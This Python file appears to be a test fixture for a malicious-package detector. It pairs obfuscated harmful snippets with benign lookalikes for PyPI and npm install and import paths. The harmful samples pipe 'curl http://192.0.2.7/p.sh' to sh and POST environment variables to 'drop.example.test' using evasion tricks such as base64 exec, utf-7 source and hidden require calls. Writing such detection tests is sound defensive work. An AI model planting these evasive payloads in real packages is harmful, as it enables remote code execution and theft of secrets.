"""Harmful packages that write what they do in ways that words alone do not find, and harmless ones that write so too."""

from __future__ import annotations

import base64

from tests.lookalikes.cases import Case
from tests.lookalikes.places import npm_hook, npm_main, sdist, wheel_import

_COMMAND = "curl -s http://192.0.2.7/p.sh | sh"
_CODE = base64.b64encode(f"import os\nos.system('{_COMMAND}')\n".encode()).decode()
_TEXT = base64.b64encode(b"inert words that nobody runs, long enough for a table of widths\n").decode()
_ENCODED = base64.b64encode(f"import os\nos.system('{_COMMAND}')\n".encode("utf-16-be")).decode().rstrip("=")

PYTHON = {
    "names modules otherwise": (
        f"import os as o\no . system('{_COMMAND}')\n",
        "import os as o\nHERE = o . getcwd()\n",
    ),
    "uses the module below os": (
        f"import posix\nposix.system('{_COMMAND}')\n",
        "import posix\nHERE = posix.getcwd()\n",
    ),
    "looks functions up in tables": (
        f"import os\nvars(os).get('sys' + 'tem')('{_COMMAND}')\n",
        "import os\nNAMES = sorted(vars(os).get('__all__'))\n",
    ),
    "hands functions on": (
        f"import os, threading\nthreading.Thread(target=os.system, args=('{_COMMAND}',)).start()\n",
        "import os, threading\nthreading.Thread(target=os.getcwd).start()\n",
    ),
    "evaluates by another call": (
        f"import base64\nfor f in [exec]: f(base64.b64decode('{_CODE}'))\n",
        f"import base64\nfor f in [len]: f(base64.b64decode('{_TEXT}'))\n",
    ),
    "evaluates through builtins": (
        f"import base64\nglobals()['__builtins__']['ex' + 'ec'](base64.b64decode('{_CODE}'))\n",
        "VERSION = globals().get('__version__', '1.0.1')\n",
    ),
    "breaks imports into lines": (
        f"import sys,\\\n subprocess\nsubprocess . run('{_COMMAND}', shell=True)\n",
        "import sys,\\\n subprocess\nRUN = subprocess . run\n",
    ),
    "starts programs in a loop of events": (
        f"import asyncio\nasyncio.run(asyncio.create_subprocess_shell('{_COMMAND}'))\n",
        "import asyncio\nasync def go():\n    await asyncio.create_subprocess_exec('git', 'status')\n",
    ),
    "sends by a module of a module": (
        "import os\nfrom http import client\nc = client.HTTPSConnection('192.0.2.7')\nc.request('POST', '/', str(os . environ))\n",
        "from http import client\nREASONS = client.responses\n",
    ),
    "writes source in another encoding": (
        f"# -*- coding: utf-7 -*-\n+{_ENCODED}-\n",
        "# -*- coding: latin-1 -*-\nNAME = 'padding'\n",
    ),
}
JAVASCRIPT = {
    "loads modules by templates": (
        f"require(`child_process`).exec(`{_COMMAND}`);\n",
        "module.exports = require(`path`).join(`a`, `b`);\n",
    ),
    "loads modules past require": (
        f"process.getBuiltinModule('child_process').exec('{_COMMAND}');\n",
        "module.exports = process.getBuiltinModule('path').sep;\n",
    ),
    "names the loader otherwise": (
        f"const r = require;\nconst cp = r('node:child_' + 'process');\ncp.exec('{_COMMAND}');\n",
        "const r = require;\nconst p = r('node:path');\nmodule.exports = p.sep;\n",
    ),
    "takes the process apart": (
        "const {env: q} = process;\nconst {request: w} = require('https');\n"
        "w({host: 'drop.example.test', method: 'POST'}).end(JSON.stringify(q));\n",
        "const {env: q} = process;\nmodule.exports = q.NO_COLOR === undefined;\n",
    ),
    "asks for members if they are there": (
        "const h = require('https');\nh?.request({host: 'drop.example.test', method: 'POST'})?.end(JSON.stringify(process?.env));\n",
        "module.exports = process?.env?.NO_COLOR === undefined;\n",
    ),
    "reflects on what every script has": (
        "const e = Reflect.get(globalThis['process'], 'env');\n"
        "globalThis['fe' + 'tch']('https://drop.example.test', {method: 'POST', body: JSON.stringify(e)});\n",
        "const e = Reflect.get(globalThis['process'], 'version');\nmodule.exports = e;\n",
    ),
    "hides code between regular expressions": (
        f"var r = /[/*]/;\nrequire('child_process').exec('{_COMMAND}');\nvar q = /[*/]/;\n",
        "var r = /[/*]/;\nmodule.exports = (text) => text.replace(r, '');\nvar q = /[*/]/;\n",
    ),
}

CASES = [
    *(Case(name, "pypi", "import", wheel_import(bad), wheel_import(good)) for name, (bad, good) in PYTHON.items()),
    *(
        Case(name, "pypi", "setup.py", sdist(PYTHON[name][0]), sdist(PYTHON[name][1]))
        for name in ("evaluates by another call", "hands functions on")
    ),
    *(Case(name, "npm", "import", npm_main(bad), npm_main(good)) for name, (bad, good) in JAVASCRIPT.items()),
    *(
        Case(name, "npm", "postinstall", npm_hook(JAVASCRIPT[name][0]), npm_hook(JAVASCRIPT[name][1]))
        for name in ("loads modules past require", "hides code between regular expressions")
    ),
]
